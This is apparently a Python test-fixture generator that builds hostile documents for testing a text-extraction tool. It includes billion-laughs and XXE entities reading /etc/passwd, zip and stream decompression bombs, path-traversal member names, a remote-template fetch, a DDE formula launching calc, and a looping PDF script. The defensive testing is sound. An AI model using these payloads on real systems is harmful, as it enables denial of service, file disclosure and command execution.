"""Hostile documents: damaged, misnamed, locked, looping, too large inside, in odd encodings."""

# ruff: noqa: E501 - XML reads worse when it is broken into lines

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Iterator

from hostile_plain import (
    DAMAGED,
    SENTENCE,
    TOO_MUCH,
    Hostile,
    both,
    docx_parts,
    either,
    epub_parts,
    locked,
    open_document_parts,
    page_objects,
    pdf,
    picture,
    pptx_parts,
    problem,
    raw_pdf,
    read,
    sound_files,
    stream,
    table,
    word_xml,
    xlsx_parts,
    zipped,
)

PASSWORD = "Reiher über dem Fluß"
_OUTSIDE = ("root:x:0:0",)
_TEXTUAL = ("rtf", "html", "json", "xml", "csv", "eml", "mbox")


def damaged(chance: random.Random) -> Iterator[Hostile]:
    """Each format emptied, cut off, with flipped bits, and overwritten."""
    for suffix, content in sound_files().items():
        yield problem(f"damaged/empty.{suffix}", b"", "Nothing in it", "empty")
        cut = content[: len(content) * 6 // 10]
        if suffix in _TEXTUAL:
            yield read(f"damaged/cut off.{suffix}", cut, "The end is missing", "broken")
        elif suffix in ("pdf", "tar", "gz", "tif", "png", "jpg"):
            yield either(f"damaged/cut off.{suffix}", cut, "The end is missing")
        else:
            yield problem(f"damaged/cut off.{suffix}", cut, "The end, where the directory is, is missing")
        flipped = bytearray(content)
        for _ in range(max(3, len(flipped) // 200)):
            flipped[chance.randrange(len(flipped))] ^= 1 << chance.randrange(8)
        yield either(f"damaged/flipped bits.{suffix}", bytes(flipped), "Bits are flipped all over it")
        if suffix not in _TEXTUAL:
            start = problem if suffix not in ("gz", "tar") else either
            yield start(f"damaged/only the start.{suffix}", content[:8], "Only its first eight bytes are there")
    for suffix in ("pdf", "docx", "txt", "zip", "png"):
        yield problem(f"damaged/zeros.{suffix}", bytes(8192), "Its blocks were never written")
        yield problem(f"damaged/noise.{suffix}", chance.randbytes(8192), "Random bytes")


def misnamed() -> Iterator[Hostile]:
    """Files under the name of another format."""
    sound = sound_files()
    for name, kind in (
        ("pdf called.docx", "pdf"),
        ("docx called.pdf", "docx"),
        ("docx called.zip", "docx"),
        ("xlsx called.txt", "xlsx"),
        ("pptx called.docx", "pptx"),
        ("odt called.docx", "odt"),
        ("zip called.pdf", "zip"),
        ("tar called.zip", "tar"),
        ("epub called.zip", "epub"),
        ("rtf called.doc", "rtf"),
        ("html called.doc", "html"),
        ("html called.xls", "html"),
        ("csv called.xls", "csv"),
        ("mail called.txt", "eml"),
        ("mailbox called.eml", "mbox"),
        ("text called.pdf", "csv"),
        ("pdf without suffix", "pdf"),
        ("docx without suffix", "docx"),
        ("SHOUTED.PDF", "pdf"),
        ("invoice.pdf.exe", "pdf"),
        ("gzip called.txt", "gz"),
    ):
        yield read(f"misnamed/{name}", sound[kind], f"A {kind} file under another name", "misnamed")
    yield problem("misnamed/picture called.pdf", picture(), "A picture of a line", "misnamed", "no-text")
    for name, start in (
        ("program.pdf", b"MZ\x90\x00"),
        ("program.txt", b"\x7fELF\x02\x01\x01"),
        ("database.csv", b"SQLite format 3\x00"),
    ):
        yield problem(f"misnamed/{name}", start + bytes(range(256)) * 20, "No document at all", "unknown", "broken")


def pdfs() -> Iterator[Hostile]:
    """PDFs that loop, lie or burst."""
    yield from _pdf_damage()
    yield from _pdf_loops()
    yield from _pdf_sizes()
    yield from _pdf_locks()


def _pdf_damage() -> Iterator[Hostile]:
    sound = raw_pdf(page_objects())
    for name, content, about in (
        ("wrong startxref", raw_pdf(page_objects(), start=3), "The table is not where it is said to be"),
        ("far startxref", raw_pdf(page_objects(), start=2**40), "The table is said to lie beyond the end"),
        ("negative startxref", raw_pdf(page_objects(), start=-5), "The table is said to lie before the beginning"),
        ("no trailer", sound[: sound.index(b"xref\n")], "Table and trailer are missing"),
        ("no end mark", sound.replace(b"%%EOF\n", b""), "The end mark is missing"),
        (
            "junk before",
            b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n" + sound,
            "What a web server said stands before it",
        ),
        ("junk after", sound + b"\x00" * 2000 + b"<html>trailing</html>", "Something else stands after it"),
        ("version 9.9", sound.replace(b"PDF-1.7", b"PDF-9.9"), "A version that does not exist"),
        (
            "wrong length",
            raw_pdf(
                page_objects(
                    o4=stream(b"BT /F1 12 Tf 72 700 Td (%s) Tj ET" % SENTENCE.encode()).replace(
                        b"/Length ", b"/Length 9"
                    )
                )
            ),
            "Its text is said to be longer than it is",
        ),
        (
            "invalid dates",
            raw_pdf(
                page_objects(
                    o6=b"<< /CreationDate (D:99999999999999) /ModDate (yesterday) /Title (\xfe\xff\xd8\x00) >>"
                ),
                b"/Root 1 0 R /Info 6 0 R",
            ),
            "Dates that are none, and a title in half a character",
        ),
        (
            "script at opening",
            raw_pdf(
                page_objects(
                    o1=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (while(1){app.alert(1)}) >> >>"
                )
            ),
            "A script that never ends",
        ),
        (
            "strange page size",
            raw_pdf(page_objects(o2=b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Rotate 7777 /UserUnit -1 >>")),
            "A page turned by 7,777 degrees",
        ),
    ):
        yield read(f"pdf/{name}.pdf", content, about, "broken")
    for count in (-7, 2147483647):
        lying = page_objects(o2=b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count)
        yield either(f"pdf/count of {count}.pdf", raw_pdf(lying), f"It says that it has {count} pages, and has one")
    yield problem(
        "pdf/no pages.pdf", raw_pdf(page_objects(o2=b"<< /Type /Pages /Kids [] /Count 0 >>")), "It has no page"
    )
    yield problem("pdf/no catalog.pdf", raw_pdf({5: b"<< >>"}, b""), "It has neither pages nor a catalog")
    yield problem("pdf/only a header.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "Nothing follows its first line")
    yield problem("pdf/empty page.pdf", raw_pdf(page_objects(b" ")), "A page without anything on it")
    yield either(
        "pdf/broken stream.pdf",
        raw_pdf(page_objects(o4=stream(b"not deflated at all", b"/Filter /FlateDecode"))),
        "Its text is not compressed as it says",
    )
    yield either(
        "pdf/unknown filter.pdf",
        raw_pdf(page_objects(o4=stream(b"????", b"/Filter /NoSuchDecode"))),
        "Its text is compressed in an unknown way",
    )
    yield either(
        "pdf/infinite box.pdf",
        raw_pdf(page_objects(o3=page_objects()[3].replace(b"0 0 595 842", b"-1e38 -1e38 1e38 1e38"))),
        "A page of infinite size",
    )
    yield either(
        "pdf/no box.pdf",
        raw_pdf(page_objects(o3=page_objects()[3].replace(b"0 0 595 842", b"0 0 0 0"))),
        "A page of no size",
    )


def _pdf_loops() -> Iterator[Hostile]:
    page = page_objects()[3]
    yield read(
        "pdf/page tree of itself.pdf",
        raw_pdf(page_objects(o2=b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>")),
        "A page tree that is its own branch",
        "broken",
    )
    yield problem(
        "pdf/page tree of nothing else.pdf",
        raw_pdf(page_objects(o2=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")),
        "A page tree with no leaf but itself",
    )
    sound = raw_pdf(page_objects())
    itself = b"/Root 1 0 R /Prev %d" % sound.index(b"xref\n")
    yield read(
        "pdf/table after itself.pdf",
        raw_pdf(page_objects(), itself),
        "A cross-reference table that continues with itself",
        "broken",
    )
    yield either(
        "pdf/length of itself.pdf",
        raw_pdf(page_objects(o4=b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream")),
        "A length that is the stream it is the length of",
    )
    form = stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")
    drawn = b"/X Do BT /F1 12 Tf 72 700 Td (%s) Tj ET" % SENTENCE.encode()
    resources = page.replace(b"/Font", b"/XObject << /X 6 0 R >> /Font")
    yield read(
        "pdf/form within itself.pdf",
        raw_pdf(page_objects(drawn, o3=resources, o6=form)),
        "A drawing that draws itself",
        "broken",
    )
    outline = page_objects(
        o1=b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>",
        o6=b"<< /First 7 0 R /Last 7 0 R /Count 1 >>",
        o7=b"<< /Title (Chapter) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>",
    )
    yield read(
        "pdf/outline of itself.pdf",
        raw_pdf(outline),
        "A chapter that is followed by itself and part of itself",
        "broken",
    )
    note = page_objects(
        o3=page.replace(b"/Contents", b"/Annots [6 0 R 6 0 R] /Contents"),
        o6=b"<< /Type /Annot /Subtype /Popup /Rect [0 0 9 9] /Parent 6 0 R /Popup 6 0 R /IRT 6 0 R >>",
    )
    yield read("pdf/remark on itself.pdf", raw_pdf(note), "A remark that is an answer to itself", "broken")
    names = page_objects(
        o1=b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>", o6=b"<< /Kids [6 0 R 6 0 R] >>"
    )
    yield read(
        "pdf/attachments of themselves.pdf", raw_pdf(names), "A tree of attachments that is its own branch", "broken"
    )
    fields = page_objects(
        o1=b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>",
        o6=b"<< /T (name) /FT /Tx /V (Smith) /Kids [6 0 R] /Parent 6 0 R >>",
    )
    yield read("pdf/field of itself.pdf", raw_pdf(fields), "A field of a form that is part of itself", "broken")
    labels = page_objects(
        o1=b"<< /Type /Catalog /Pages 2 0 R /PageLabels << /Kids [6 0 R] >> >>",
        o6=b"<< /Kids [6 0 R] /Nums [0 << /S /r /St 999999999 >>] >>",
    )
    yield read(
        "pdf/labels of themselves.pdf",
        raw_pdf(labels),
        "Page labels that are their own branch, with a Roman number of a million letters",
        "broken",
    )
    font = page_objects(
        o5=b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [5 0 R] /ToUnicode 4 0 R >>"
    )
    yield either("pdf/font of itself.pdf", raw_pdf(font), "A font made of itself")


def _pdf_sizes() -> Iterator[Hostile]:
    bomb = zeros(400_000_000, b" ")
    yield problem(
        "pdf/content bomb.pdf",
        raw_pdf(page_objects(o4=stream(bomb, b"/Filter /FlateDecode"))),
        "400 MB of spaces for a page",
        *TOO_MUCH,
        "no-text",
    )
    nested = bomb
    for _ in range(3):
        nested = zlib.compress(nested, 9)
    filters = b"/Filter [" + b"/FlateDecode " * 4 + b"]"
    yield problem(
        "pdf/nested bomb.pdf",
        raw_pdf(page_objects(o4=stream(nested, filters))),
        "400 MB of spaces, compressed four times over",
        *TOO_MUCH,
        "no-text",
    )
    yield either(
        "pdf/deep arrays.pdf",
        raw_pdf(page_objects(o6=b"[" * 200_000 + b"]" * 200_000)),
        "A list in a list in a list, 200,000 deep",
    )
    yield either(
        "pdf/deep content.pdf",
        raw_pdf(page_objects(b"q " * 500_000 + b"[" * 100_000)),
        "Drawing states saved half a million times",
    )
    one_page = page_objects(o2=b"<< /Type /Pages /Kids [" + b"3 0 R " * 3_000 + b"] /Count 3000 >>")
    yield either("pdf/one page many times.pdf", raw_pdf(one_page), "3,000 pages that are all the same object")
    attached = page_objects(
        o1=b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >> >>",
        o6=b"<< /Type /Filespec /F (../../../etc/evil.txt) /UF (../../../etc/evil.txt) /EF << /F 7 0 R >> >>",
        o7=stream(SENTENCE.encode()),
    )
    yield read(
        "pdf/attachment that climbs.pdf", raw_pdf(attached), "An attachment with a name that leads out of the folder"
    )
    attached[7] = stream(zeros(400_000_000, b" "), b"/Filter /FlateDecode")
    yield both("pdf/attached bomb.pdf", raw_pdf(attached), "An attachment of 400 MB", *TOO_MUCH, "no-text")


def _pdf_locks() -> Iterator[Hostile]:
    import pymupdf

    made = pymupdf.open("pdf", pdf())
    strong, weak = pymupdf.PDF_ENCRYPT_AES_256, pymupdf.PDF_ENCRYPT_RC4_128
    for name, method in (("AES", strong), ("RC4", weak)):
        content = made.tobytes(encryption=method, user_pw="heron", owner_pw="owner", no_new_id=True)
        yield locked(f"pdf/locked {name}.pdf", content, f"Encrypted ({name})", "heron")
    content = made.tobytes(encryption=strong, user_pw=PASSWORD, owner_pw="owner", no_new_id=True)
    yield locked("pdf/locked with umlauts.pdf", content, "Encrypted with a password of more than ASCII", PASSWORD)
    content = made.tobytes(encryption=strong, user_pw="", owner_pw="owner", permissions=0, no_new_id=True)
    yield read("pdf/locked against copying.pdf", content, "It opens without a password, but forbids to copy")
    unknown = page_objects(o6=b"<< /Filter /NoSuchLock /V 9 /R 9 >>")
    yield either(
        "pdf/unknown lock.pdf",
        raw_pdf(unknown, b"/Root 1 0 R /Encrypt 6 0 R /ID [(a) (b)]"),
        "Encrypted in an unknown way",
    )


def office() -> Iterator[Hostile]:
    """Office files that burst, point outside, lack parts or lie."""
    yield from _word()
    yield from _sheets()
    yield from _slides_and_others()
    yield from _office_locks()


LAUGHS = "<!DOCTYPE x [<!ENTITY a '{}'>{}]>".format(
    "ha" * 20,
    "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)),
)
"""Ten entities, each ten of the one before: 40,000 million characters when they are replaced."""
OUTSIDE = "<!DOCTYPE x [<!ENTITY out SYSTEM 'file:///etc/passwd'>]>"


def _word() -> Iterator[Hostile]:
    declaration = '<?xml version="1.0" encoding="UTF-8"?>'
    yield problem(
        "office/laughs.docx",
        zipped(docx_parts(word_xml("&j;", declaration + LAUGHS))),
        "Entities of entities, 40 thousand million characters long",
        *TOO_MUCH,
        *DAMAGED,
    )
    quadratic = f"{declaration}<!DOCTYPE x [<!ENTITY a '{'a' * 100_000}'>]>"
    yield either(
        "office/quadratic.docx", zipped(docx_parts(word_xml("&a;" * 20_000, quadratic))), "A long entity, 20,000 times"
    )
    yield either(
        "office/from outside.docx",
        zipped(docx_parts(word_xml("&out;", declaration + OUTSIDE))),
        "An entity that is a file of the computer",
        _OUTSIDE,
    )
    head, _, tail = word_xml("§").partition("§")
    bomb = deflated_member("word/document.xml", head.encode(), 1_000_000_000, tail.encode(), docx_parts())
    yield problem("office/bomb.docx", bomb, "A thousand million spaces", *TOO_MUCH)
    deep = (
        word_xml()
        .replace("<w:p>", "<w:p>" + "<w:sdt><w:sdtContent>" * 50_000)
        .replace("</w:p>", "</w:sdtContent></w:sdt>" * 50_000 + "</w:p>")
    )
    yield either("office/deep.docx", zipped(docx_parts(deep)), "Parts within parts, 100,000 deep")
    tables = (
        "<w:tbl><w:tr><w:tc>" * 2_000
        + f"<w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>"
        + "</w:tc></w:tr></w:tbl>" * 2_000
    )
    yield either(
        "office/tables in tables.docx",
        zipped(docx_parts(word_xml().replace("<w:body>", "<w:body>" + tables))),
        "Tables within tables, 2,000 deep",
    )
    parts = docx_parts()
    without = {name: part for name, part in parts.items() if name != "word/document.xml"}
    yield problem(
        "office/no main part.docx", zipped(without), "The part with the text is missing", "misnamed", *DAMAGED
    )
    yield either(
        "office/no types.docx",
        zipped({name: part for name, part in parts.items() if "Content" not in name}),
        "The list of types is missing",
    )
    yield problem("office/not closed.docx", zipped(docx_parts(word_xml()[:-40])), "Its XML ends before its time")
    yield read(
        "office/UTF-16.docx",
        zipped(docx_parts(word_xml(prolog='<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16"))),
        "Its XML is in UTF-16",
    )
    yield either(
        "office/wrong encoding.docx",
        zipped(docx_parts(word_xml("Flußreiher " + SENTENCE).encode("latin-1"))),
        "Its XML is not in the encoding that it names",
    )
    away = parts | {"_rels/.rels": str(parts["_rels/.rels"]).replace("word/document.xml", "file:///etc/passwd")}
    yield either(
        "office/main part outside.docx", zipped(away), "Its main part is said to be a file of the computer", _OUTSIDE
    )
    climbing = parts | {"../../word/evil.xml": "evil"}
    yield read("office/climbing part.docx", zipped(climbing), "A part with a name that leads out of the folder")
    twice = [*parts.items(), ("word/document.xml", word_xml("Another text."))]
    yield either("office/two main parts.docx", zipped(twice), "Two parts of the same name")
    template = parts | {
        "word/_rels/document.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.9/evil.dotm" TargetMode="External"/></Relationships>'
    }
    yield read("office/template from the network.docx", zipped(template), "A template to be fetched from a server")
    yield read(
        "office/with macros.docm",
        zipped(parts | {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(2000)}),
        "Macros",
        "misnamed",
    )
    dated = parts | {
        "docProps/core.xml": '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dcterms="http://purl.org/dc/terms/"><dcterms:created>0000-99-99T99:99:99Z</dcterms:created></cp:coreProperties>'
    }
    yield read("office/invalid date.docx", zipped(dated), "A date that is none")


def _sheets() -> Iterator[Hostile]:
    cell = f'<row r="{{}}"><c r="{{}}" t="inlineStr"><is><t>{SENTENCE}</t></is></c></row>'
    yield read(
        "office/vast dimension.xlsx",
        zipped(xlsx_parts(dimension="A1:XFD1048576")),
        "It says that it has 17 thousand million cells",
    )
    yield read(
        "office/last cell.xlsx",
        zipped(xlsx_parts(cell.format(1, "A1") + cell.format(1048576, "XFD1048576"))),
        "Its last cell is the last that there can be",
    )
    yield either(
        "office/cell beyond the end.xlsx",
        zipped(xlsx_parts(cell.format(99999999, "ZZZZZ99999999"))),
        "A cell that there cannot be",
    )
    yield either(
        "office/strings that are not there.xlsx",
        zipped(xlsx_parts('<row r="1"><c r="A1" t="s"><v>99999</v></c></row>', shared="<sst/>")),
        "A cell whose text is not in the list",
    )
    laughing = f'<?xml version="1.0"?>{LAUGHS}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&j;</t></si></sst>'
    yield either(
        "office/laughs.xlsx",
        zipped(xlsx_parts('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared=laughing)),
        "Entities of entities in the list of texts",
    )
    formula = f'<row r="1"><c r="A1" t="str"><f>cmd|\'/c calc\'!A0</f><v>{SENTENCE}</v></c></row>'
    yield read("office/formula that calls.xlsx", zipped(xlsx_parts(formula)), "A formula that starts a program")
    yield problem(
        "office/no sheet.xlsx",
        zipped({name: part for name, part in xlsx_parts().items() if "sheet1" not in name}),
        "The part of its sheet is missing",
    )
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    bomb = deflated_member("xl/worksheets/sheet1.xml", head, 1_000_000_000, b"</sheetData></worksheet>", xlsx_parts())
    yield problem("office/bomb.xlsx", bomb, "A sheet of a thousand million spaces", *TOO_MUCH, "no-text")
    repeated = zipped(open_document_parts("spreadsheet", table(1048576, 16384)))
    yield either("office/repeated cell.ods", repeated, "One cell, said to be repeated 17 thousand million times")


def _slides_and_others() -> Iterator[Hostile]:
    yield either(
        "office/slides that are not there.pptx",
        zipped(pptx_parts(1, listed=3)),
        "Three slides are listed and one is there",
    )
    parts = pptx_parts(1)
    twice = parts | {
        "ppt/presentation.xml": str(parts["ppt/presentation.xml"]).replace(
            "</p:sldIdLst>", '<p:sldId id="256" r:id="rId1"/>' * 50 + "</p:sldIdLst>"
        )
    }
    yield read("office/one slide many times.pptx", zipped(twice), "One slide that is listed 51 times")
    groups = "<p:grpSp>" * 30_000 + "</p:grpSp>" * 30_000
    deep = parts | {
        "ppt/slides/slide1.xml": str(parts["ppt/slides/slide1.xml"]).replace("<p:sp>", groups + "<p:sp>", 1)
    }
    yield either("office/deep.pptx", zipped(deep), "Groups within groups, 30,000 deep")
    head = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:body><office:text>'
    tail = b"</office:text></office:body></office:document-content>"
    bomb = deflated_member("content.xml", head.encode(), 1_000_000_000, tail, open_document_parts())
    yield problem("office/bomb.odt", bomb, "A thousand million spaces", *TOO_MUCH, "no-text")
    content = str(open_document_parts()["content.xml"])
    for name, prolog, never in (("laughs", LAUGHS, ()), ("from outside", OUTSIDE, _OUTSIDE)):
        word = "&j;" if name == "laughs" else "&out;"
        parts = open_document_parts() | {"content.xml": prolog + content.replace(SENTENCE, word)}
        yield either(
            f"office/{name}.odt", zipped(parts), "An entity that is too long, or a file of the computer", never
        )
    spaces = open_document_parts(body=f'<text:p>{SENTENCE}<text:s text:c="2000000000"/></text:p>')
    yield either("office/spaces.odt", zipped(spaces), "One element that stands for two thousand million spaces")
    lock = '<manifest:encryption-data manifest:checksum="x"><manifest:algorithm manifest:algorithm-name="Blowfish CFB"/></manifest:encryption-data>'
    yield problem(
        "office/locked.odt",
        zipped(open_document_parts(protection=lock) | {"content.xml": bytes(range(256)) * 9}),
        "Encrypted",
        "encrypted",
        "broken",
    )
    yield read(
        "office/chapter that climbs.epub",
        zipped(
            epub_parts(href="../../../../etc/passwd")
            | {
                "book.opf": str(epub_parts()["book.opf"])
                .replace(
                    "</manifest>",
                    '<item id="c2" href="../../../../etc/passwd" media-type="application/xhtml+xml"/></manifest>',
                )
                .replace("</spine>", '<itemref idref="c2"/></spine>')
            }
        ),
        "A chapter that is a file of the computer",
        "broken",
    )
    yield read(
        "office/chapter many times.epub",
        zipped(epub_parts(spine='<itemref idref="c1"/>' * 500)),
        "One chapter that is listed 500 times",
    )
    yield problem("office/no contents.epub", zipped({"mimetype": "application/epub+zip"}), "It lists no chapters")
    drm = epub_parts() | {
        "META-INF/encryption.xml": '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData xmlns="http://www.w3.org/2001/04/xmlenc#"><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/><CipherData><CipherReference URI="one.xhtml"/></CipherData></EncryptedData></encryption>',
        "one.xhtml": bytes(range(256)) * 9,
    }
    yield problem(
        "office/locked.epub", zipped(drm), "Encrypted for one shop's readers", "encrypted", "broken", "no-text"
    )


def _office_locks() -> Iterator[Hostile]:
    import io

    from msoffcrypto.format.ooxml import OOXMLFile

    # msoffcrypto writes packages that it cannot read again when they are as short as a stream within a short stream.
    noise = {"docProps/noise.bin": random.Random(1).randbytes(20_000)}
    for name, parts in (("docx", docx_parts()), ("xlsx", xlsx_parts()), ("pptx", pptx_parts())):
        content = zipped(parts | noise)
        out = io.BytesIO()
        OOXMLFile(io.BytesIO(content)).encrypt("heron", out)
        yield locked(f"office/locked.{name}", out.getvalue(), "Encrypted by the office program", "heron")
        yield either(f"office/locked and cut off.{name}", out.getvalue()[:9000], "Encrypted, and the end is missing")
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    looping = head.ljust(76, b"\x00") + struct.pack("<I", 0) * 109 + struct.pack("<128I", *([0] * 128)) * 3
    for suffix in ("doc", "xls", "ppt", "msg"):
        yield problem(
            f"office/sectors of themselves.{suffix}",
            looping,
            "A file system whose first block is followed by itself",
            *DAMAGED,
        )


def zeros(size: int, sign: bytes) -> bytes:
    """Many times the same character, compressed by zlib: as small as it gets, made in no time."""
    block = sign * 1_000_000
    packer = zlib.compressobj(9)
    return b"".join([*(packer.compress(block) for _ in range(size // len(block))), packer.flush()])


def deflated_member(name: str, head: bytes, size: int, tail: bytes, others: dict[str, str | bytes]) -> bytes:
    """A ZIP archive in which one member holds so many spaces between two pieces of text."""
    import io
    import zipfile

    from hostile_plain import TIME

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for other, content in others.items():
            if other != name:
                archive.writestr(zipfile.ZipInfo(other, TIME), content)
        entry = zipfile.ZipInfo(name, TIME)
        entry.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(entry, "w") as member:
            member.write(head)
            for _ in range(size // 1_000_000):
                member.write(b" " * 1_000_000)
            member.write(tail)
    return out.getvalue()


_SENTENCES = {
    "ru": "Цапля перелетела через реку на рассвете. Комитет собрался во вторник и обсудил договор.",
    "ja": "夜明けにサギが川を渡った。委員会は火曜日に契約について話し合った。",
    "zh": "黎明时分，苍鹭飞过了河。委员会星期二讨论了合同。",
    "ko": "새벽에 왜가리가 강을 건넜다. 위원회는 화요일에 계약을 논의했다.",
    "de": "Der Reiher flog im Morgengrauen über den Fluß. Die Prüfer fanden größere Lücken in den Büchern.",
    "el": "Ο ερωδιός πέρασε το ποτάμι την αυγή. Η επιτροπή συζήτησε τη σύμβαση.",
    "he": "האנפה חצתה את הנהר עם שחר. הוועדה דנה בחוזה ביום שלישי.",
    "th": "นกกระสาบินข้ามแม่น้ำตอนรุ่งสาง คณะกรรมการหารือเกี่ยวกับสัญญา",
}


def texts() -> Iterator[Hostile]:
    """Plain text in many encodings, and text that is made to trip programs up."""
    for encoding, language in (
        ("utf-8-sig", "de"), ("utf-16", "ru"), ("utf-16-le", "de"), ("utf-16-be", "de"), ("utf-32", "zh"), ("koi8-r", "ru"),
        ("cp1251", "ru"), ("cp866", "ru"), ("shift_jis", "ja"), ("euc-jp", "ja"), ("iso2022_jp", "ja"), ("gb18030", "zh"),
        ("big5", "ja"), ("euc-kr", "ko"), ("cp1252", "de"), ("latin-1", "de"), ("cp437", "de"), ("mac-roman", "de"),
        ("iso8859-7", "el"), ("cp1255", "he"), ("tis-620", "th"),
    ):  # fmt: skip
        sentence = _SENTENCES["zh" if encoding == "big5" else language]
        if encoding == "big5":
            sentence = "黎明時分，蒼鷺飛過了河。委員會星期二討論了合同。"
        word = max(sentence.replace("。", " ").replace("，", " ").split(), key=len)
        yield read(
            f"text/{encoding}.txt",
            (sentence + "\n").encode(encoding) * 30,
            f"In {encoding}, which it does not say",
            words=(word.strip("."),),
        )
    sentence = SENTENCE.encode()
    yield read(
        "text/two encodings.txt",
        sentence + b"\n" + "Fluß".encode("latin-1") + b"\n" + "Fluß".encode(),
        "Lines in different encodings",
    )
    yield read(
        "text/half characters.txt",
        sentence + b"\n\xed\xa0\x80\xed\xb0\x80 \xc0\xaf \xf5\x80\x80\x80 \xff",
        "Byte sequences that are no characters",
    )
    yield either("text/zeros between.txt", sentence + bytes(20) + sentence, "Bytes of zero between the lines")
    yield read("text/terminal.txt", b"\x1b[2J\x1b]0;evil\x07\x08\x08" + sentence + b"\x9b31m", "Orders for a terminal")
    yield read(
        "text/backwards.txt",
        ("\u202etxt.slagev\u202c " + SENTENCE + " \u2066\u2069\ufeff\u200b").encode(),
        "Marks that turn the direction of writing",
    )
    yield read(
        "text/towers.txt", (SENTENCE + " " + "e" + "\u0301\u0323" * 5_000).encode(), "A letter with 10,000 accents"
    )
    yield read("text/one line.txt", (SENTENCE + " ").encode() * 300_000, "One line of eleven million characters")
    yield read("text/one word.txt", sentence + b"\n" + b"a" * 5_000_000, "A word of five million letters")
    yield problem("text/only lines.txt", b"\n" * 100_000, "Nothing but ends of lines", "no-text", "empty")
    yield problem("text/only a mark.txt", b"\xef\xbb\xbf", "Nothing but a byte-order mark", "no-text", "empty")
    yield problem(
        "text/invisible.txt",
        "\u200b\u2060\ufeff ".encode() * 50,
        "Nothing but characters that do not show",
        "no-text",
        "empty",
    )
    yield read("text/old Mac.txt", b"\r".join([sentence] * 20), "Lines that end as on a Macintosh of 1990")
    yield from _marked_up()
    yield from _tables()


def _marked_up() -> Iterator[Hostile]:
    yield read(
        "text/wrong charset.html",
        f'<meta charset="shift_jis"><p>{SENTENCE} Fluß</p>'.encode(),
        "Not in the encoding that it names",
    )
    yield either("text/deep.html", b"<div>" * 100_000 + SENTENCE.encode(), "Parts within parts, 100,000 deep")
    yield read(
        "text/not closed.html", f"<table><tr><td><b><i>{SENTENCE}<!-- never closed".encode(), "Nothing in it is closed"
    )
    yield problem(
        "text/only a script.html",
        b"<script>while(1){alert('evil')}</script><style>p{color:red}</style>",
        "Nothing but a script",
        "no-text",
    )
    yield read(
        "text/long attribute.html",
        f'<p title="{"x" * 3_000_000}">{SENTENCE}</p>'.encode(),
        "An attribute of three million letters",
    )
    yield either("text/zeros.html", f"<ht\0ml><p>{SENTENCE}</p>\0\0".encode(), "Bytes of zero in it")
    yield read(
        "text/from outside.html",
        f'<iframe src="file:///etc/passwd"></iframe><img src="http://203.0.113.9/x"><p>{SENTENCE}</p>'.encode(),
        "Parts to be fetched from elsewhere",
    )
    yield either("text/laughs.xml", f"<?xml version='1.0'?>{LAUGHS}<x>&j;</x>".encode(), "Entities of entities")
    yield either(
        "text/from outside.xml",
        f"<?xml version='1.0'?>{OUTSIDE}<x>{SENTENCE} &out;</x>".encode(),
        "An entity that is a file of the computer",
        _OUTSIDE,
    )
    yield either(
        "text/definition from the network.xml",
        f"<!DOCTYPE x SYSTEM 'http://203.0.113.9/x.dtd'><x>{SENTENCE}</x>".encode(),
        "A definition to be fetched from a server",
    )
    yield either(
        "text/deep.xml", b"<a>" * 100_000 + SENTENCE.encode() + b"</a>" * 100_000, "Parts within parts, 100,000 deep"
    )
    yield read(
        "text/wrong encoding.xml",
        f"<?xml version='1.0' encoding='UTF-16'?><x>{SENTENCE}</x>".encode(),
        "Not in the encoding that it names",
        "broken",
    )
    yield either("text/deep.json", b"[" * 200_000 + b"]" * 200_000, "A list in a list, 200,000 deep")
    yield either(
        "text/deep objects.json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "Objects within objects, 100,000 deep"
    )
    yield read(
        "text/no numbers.json",
        f'{{"a": NaN, "b": -Infinity, "a": "{SENTENCE}"}}'.encode(),
        "Numbers that are none, and a name twice",
        "broken",
    )
    yield read(
        "text/long number.json",
        f'{{"a": "{SENTENCE}", "n": {"9" * 500_000}}}'.encode(),
        "A number of half a million digits",
        "broken",
    )
    yield read("text/half a character.json", f'{{"a": "\\ud800", "b": "{SENTENCE}"}}'.encode(), "Half a character")
